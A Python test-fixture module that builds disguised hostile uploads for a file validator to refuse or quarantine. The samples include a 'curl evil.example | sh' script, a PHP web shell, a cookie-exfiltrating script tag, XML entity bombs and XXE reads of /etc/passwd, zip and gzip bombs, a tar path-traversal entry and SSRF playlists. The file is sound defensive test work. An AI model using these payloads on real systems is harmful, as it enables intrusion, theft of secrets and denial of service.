"""Files of kinds that are not taken: programs, scripts, pages, archives, office papers, lists."""

import gzip
import io
import tarfile
import zipfile

from tests.violations.evidence.files.corpus import QUARANTINED, REFUSED, Making, hostile

HTML = b"<script>fetch('//evil.example/'+document.cookie)</script>"
LAUGHS = "<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)
)


def packed(*names: str, content: bytes = b"x", method=zipfile.ZIP_DEFLATED) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", method) as archive:
        for name in names:
            archive.writestr(name, content)
    return into.getvalue()


@hostile(REFUSED, "executable")
def elf(making: Making):
    return "photo.jpg", b"\x7fELF\x02\x01\x01" + bytes(9) + making.noise()


@hostile(REFUSED, "executable")
def windows_program(making: Making):
    return "video.mp4", b"MZ\x90\0" + making.noise(60) + b"PE\0\0" + making.noise()


@hostile(REFUSED, "executable")
def mac_program(making: Making):
    magic = making.chance.choice([b"\xcf\xfa\xed\xfe", b"\xfe\xed\xfa\xcf", b"\xca\xfe\xba\xbe"])
    return "scan.pdf", magic + making.noise()


@hostile(REFUSED, "executable")
def other_program(making: Making):
    magics = (b"dex\n035\0", b"\0asm\1\0\0\0", b"CWS\x0a", b"!<arch>\n", b"L\0\0\0\x01\x14\x02\0")
    return "a.gif", making.chance.choice(magics) + making.noise()


@hostile(REFUSED, "script")
def shell_script(making: Making):
    first = making.chance.choice(
        [b"#!/bin/sh\n", b"#!/usr/bin/env python3\n", b"\xef\xbb\xbf#!/bin/bash\n", b"#! perl\n"]
    )
    return "memo.amr", first + b"curl evil.example | sh\n"


@hostile(REFUSED, "script")
def server_script(making: Making):
    return "photo.jpg", making.chance.choice([b"", b"\n\n "]) + b"<?php system($_GET[0]); ?>"


@hostile(REFUSED, "script")
def desktop_script(making: Making):
    text = making.chance.choice(
        ["@echo off\r\ndel *", "eval(atob('YQ=='))", "var a = 1; eval(a)", "WScript.Shell"]
    )
    return "notes.pdf", text.encode()


@hostile(REFUSED, "html")
def web_page(making: Making):
    first = making.chance.choice(
        [b"<!DOCTYPE html>", b"\xef\xbb\xbf<HTML>", b"  \n<html>", b"<!-- x --><body>", b"<head>"]
    )
    return "report.pdf", first + HTML


@hostile(REFUSED, "html")
def page_as_xml(_making: Making):
    return "a.gpx", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + HTML


@hostile(REFUSED, "svg")
def drawing(making: Making):
    first = making.chance.choice(
        ["", '<?xml version="1.0"?>', "<!-- a > b --><?x y?>", "<!DOCTYPE svg>", "\n\n"]
    )
    inside = making.chance.choice(
        ["", "<script>x()</script>", "<foreignObject><body/></foreignObject>"]
    )
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg" onload="x()">{inside}</svg>'
    return "map.png", f"{first}{drawing}".encode()


@hostile(REFUSED, "svg")
def drawing_in_wide_letters(making: Making):
    encoding = making.chance.choice(["utf-16", "utf-8-sig"])
    return "map.png", '<svg:svg xmlns:svg="http://www.w3.org/2000/svg"/>'.encode(encoding)


@hostile(REFUSED, "xml")
def other_xml(making: Making):
    root = making.chance.choice(["feed", "x:stylesheet", "Envelope", "plist", "gpxx", "r"])
    return "walk.gpx", f'<?xml version="1.0"?><{root} xmlns:x="y"/>'.encode()


@hostile(REFUSED, "xml_entities")
def billion_laughs(making: Making):
    root = making.chance.choice(["gpx", "kml"])
    return f"a.{root}", f"<!DOCTYPE {root} [{LAUGHS}]><{root}>&a9;</{root}>".encode()


@hostile(REFUSED, "xml_entities")
def quadratic_blowup(making: Making):
    long = "A" * making.chance.randint(10_000, 50_000)
    return "a.gpx", f"<!DOCTYPE gpx [<!ENTITY a '{long}'>]><gpx>{'&a;' * 5000}</gpx>".encode()


@hostile(REFUSED, "xml_entities")
def entity_of_another_file(making: Making):
    where = making.chance.choice(["file:///etc/passwd", "http://127.0.0.1:9/", "//evil.example/x"])
    return "a.kml", f'<!DOCTYPE kml [<!ENTITY x SYSTEM "{where}">]><kml>&x;</kml>'.encode()


@hostile(QUARANTINED)
def entities_behind_a_long_comment(making: Making):
    filling = "<!--" + "x" * making.chance.randint(70_000, 90_000) + "-->"
    return "a.gpx", f"<gpx>{filling}</gpx>{LAUGHS}".encode()


@hostile(REFUSED, "archive")
def archive(making: Making):
    return "photos.jpg", packed("a.jpg", "b.jpg", content=making.noise())


@hostile(REFUSED, "archive")
def archive_that_unfolds_forever(_making: Making):
    inner = packed("0.bin", content=bytes(8_000_000))
    return "photos.zip", packed(*(f"{number}.zip" for number in range(50)), content=inner)


@hostile(REFUSED, "archive")
def other_archive(making: Making):
    magics = (b"Rar!\x1a\x07\x01\0", b"7z\xbc\xaf\x27\x1c", b"BZh91AY", b"\xfd7zXZ\0", b"MSCF")
    return "all.png", making.chance.choice(magics) + making.noise()


@hostile(REFUSED, "archive")
def packed_bomb(_making: Making):
    return "video.mp4", gzip.compress(bytes(20_000_000))


@hostile(REFUSED, "archive")
def tape_archive(making: Making):
    into = io.BytesIO()
    with tarfile.open(fileobj=into, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../etc/cron.d/x"), io.BytesIO(making.noise()))
    return "photo.tif", into.getvalue()


@hostile(QUARANTINED, "kmz")
def packed_track(making: Making):
    return "walk.kmz", packed("doc.kml", "files/a.png", content=making.noise())


@hostile(REFUSED, "office")
def office_document(making: Making):
    inside = making.chance.choice(["word/document.xml", "xl/workbook.xml", "ppt/presentation.xml"])
    return "report.docx", packed("[Content_Types].xml", inside)


@hostile(REFUSED, "office")
def office_bomb(_making: Making):
    return "a.docx", packed("[Content_Types].xml", "word/document.xml", content=bytes(20_000_000))


@hostile(REFUSED, "macros")
def document_with_macros(making: Making):
    where = making.chance.choice(["word", "xl", "ppt"])
    return "report.docm", packed("[Content_Types].xml", f"{where}/vbaProject.bin")


@hostile(REFUSED, "macros")
def old_document_with_macros(making: Making):
    inside = making.noise() + "_VBA_PROJECT".encode("utf-16-le") + b"_VBA_PROJECT"
    return "report.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + inside


@hostile(REFUSED, "office")
def old_document(making: Making):
    if making.time % 2:
        return "report.rtf", b"{\\rtf1{\\object\\objdata 01}}"
    return "report.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + making.noise()


@hostile(REFUSED, "executable")
def packed_program(making: Making):
    inside = making.chance.choice(["META-INF/MANIFEST.MF", "AndroidManifest.xml"])
    return "photos.zip", packed(inside, "a.class")


@hostile(REFUSED, "playlist")
def playlist(making: Making):
    lines = making.chance.choice(
        [
            b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n",
            b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nhttp://169.254.169.254/\n",
            b"ffconcat version 1.0\nfile /etc/passwd\n",
            b"[playlist]\nFile1=/etc/passwd\n",
            b"<MPD><BaseURL>file:///etc/passwd</BaseURL></MPD>",
        ]
    )
    return "video.mp4", lines


@hostile(REFUSED)
def list_of_files(making: Making):
    return "song.mp3", b"file '/etc/passwd'\nfile 'http://127.0.0.1/'\n" + b"\n" * making.time


@hostile(REFUSED, "empty")
def nothing(_making: Making):
    return "photo.jpg", b""


@hostile(REFUSED, "too_large")
def more_than_two_gigabytes(making: Making):
    return "photo.jpg", 2 * 1024**3 + 1 + making.time


@hostile(QUARANTINED, "too_large_to_check")
def far_too_large_a_photo(making: Making):
    return "photo.jpg", 1024**3 + making.time


@hostile(REFUSED)
def noise(making: Making):
    return making.one_of("phone.jpg", "report.pdf", "phone.mp4")[0], b"\x03" + making.noise()


@hostile(REFUSED, "unknown_type")
def other_format(making: Making):
    magics = (b"BM" + bytes(50), b"8BPS\0\1", b"\0\0\1\0\1\0", b"RIFF\x10\0\0\0AVI LIST", b"FLV\1")
    magics += (b"\0\0\0\x1cftypavif\0\0\0\0avifmif1", b"\x30\x26\xb2\x75\x8e\x66\xcf\x11")
    return "a.jpg", making.chance.choice(magics) + bytes(100)


@hostile(REFUSED, "unknown_type")
def letter(making: Making):
    return "note.pdf", b"Dear all, at dawn there was shelling.\n" * (making.time + 1)
